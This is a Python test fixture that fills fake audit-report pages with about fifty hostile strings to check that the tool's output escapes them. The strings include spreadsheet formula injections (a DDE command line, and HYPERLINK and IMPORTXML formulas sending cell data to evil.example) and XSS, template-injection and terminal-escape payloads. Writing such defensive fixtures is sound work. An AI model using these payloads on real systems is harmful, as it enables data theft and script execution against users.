"""Fifty strings that a hostile page could have as title, anchor or address, formulas among them, and pages full of them."""

from __future__ import annotations

from dataclasses import replace

from auditor.report import Location, PageResult, Report, SiteResult
from tests.reports import finding, report, spammed_page

FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    '=HYPERLINK("https://evil.example/?"&A1,"click")', "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")", "|calc", "%0A=1",
    "\ufeff=1+1", "\x00=1+1", '"=1+1', "=1+1\";=1+1",
)  # fmt: skip

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><script>alert(1)</script>", '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "</pre><iframe src=javascript:alert(1)>", "</style><style>@import 'https://evil.example/x.css'</style>", "<!--><script>alert(1)</script-->",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<form action=https://evil.example/>",
    "{{7*7}}", "{% import os %}", "${7*7}", "<%= 7*7 %>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<a href='javascript:alert(1)'>x</a>",
    "<object data=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "\u202egpj.exe", "\x1b[2J\x1b]0;owned\x07", "\ud800 half a pair", "<details open ontoggle=alert(1)>", "</textarea><script>alert(1)</script>",
    "a\u2028<script>alert(1)</script>", "_x0041_ and x" + "x" * 40_000,
)  # fmt: skip

STRINGS = FORMULAS + MARKUP


def hostile_page(text: str, number: int = 0) -> PageResult:
    """A page with everything on it, and this string wherever a page can put words of its own."""
    usual = spammed_page(f"posts/{number}.md")
    return replace(
        usual,
        title=text,
        url=f"https://hostile.example/{number}?{text}",
        path=None,
        links=tuple(
            replace(link, anchor=text, href=link.href and text, rel=(text,), block=text) for link in usual.links
        ),
        related=tuple(
            replace(block, block=text, items=tuple(replace(item, title=text, href=text) for item in block.items))
            for block in usual.related
        ),
        findings=tuple(
            replace(
                one,
                message=text,
                fix=text,
                location=Location(url=text, line=1, column=1, snippet=f"{text}«{text}»{text}"),
                evidence={"words": text, text: [text]},
            )
            for one in usual.findings
        ),
        suppressed=tuple(replace(one, where=text, reason=text) for one in usual.suppressed),
        card=usual.card
        and replace(usual.card, lines=tuple(replace(line, answer=text, route=text) for line in usual.card.lines)),
    )


def hostile_report() -> Report:
    """A site of nothing but hostile pages."""
    pages = [hostile_page(text, number) for number, text in enumerate(STRINGS)]
    of_site = tuple(finding("new-domain", message=text, evidence={"domain": text}) for text in STRINGS)
    return report(*pages, sites=(SiteResult("hostile.example", len(pages), (), of_site),))
